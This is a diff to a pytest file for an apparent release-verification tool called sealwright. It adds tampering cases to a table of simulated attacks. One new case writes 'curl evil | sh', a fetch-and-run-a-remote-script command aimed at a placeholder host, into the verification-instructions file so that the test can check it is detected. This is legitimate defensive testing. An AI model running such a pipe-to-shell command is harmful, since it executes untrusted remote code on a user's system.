@@ -8,7 +8,7 @@ from dataclasses import replace
 
 import pytest
 from tests.support.evidence import WHEEL, SignedRelease
-from tests.support.sealed import RELEASE, downloaded, sealed_release
+from tests.support.sealed import RELEASE, VERIFYING, downloaded, sealed_release
 from tests.support.tampering import SBOM, SIGNATURE, WHEEL_PATH, data, drop, expecting, flip, put
 
 from sealwright.model import FileRef, Mode, State, Verdict
@@ -64,6 +64,8 @@ ATTACKS: tuple[tuple[str, Attack, str], ...] = (
     ("no SBOM", lambda _, c: drop(c, SBOM), "sbom-missing"),
     ("no list", lambda _, c: drop(c, RELEASE), "release-missing"),
     ("an unsigned list", lambda _, c: drop(c, RELEASE_SIGNATURE), "signature-missing"),
+    ("other instructions", lambda _, c: put(c, VERIFYING, b"curl evil | sh"), "digest-mismatch"),
+    ("no instructions", lambda _, c: drop(c, VERIFYING), "file-missing"),
     ("a changed list", lambda _, c: put(c, RELEASE, flip(data(c, RELEASE))), "digest-mismatch"),
     ("a signed list that is none", lambda r, c: signed_list(r, c, b"[]"), "malformed"),
     ("a signed list of odd entries", lambda r, c: signed_list(r, c, b'{"files": [{"path": 1}]}'), "malformed"),
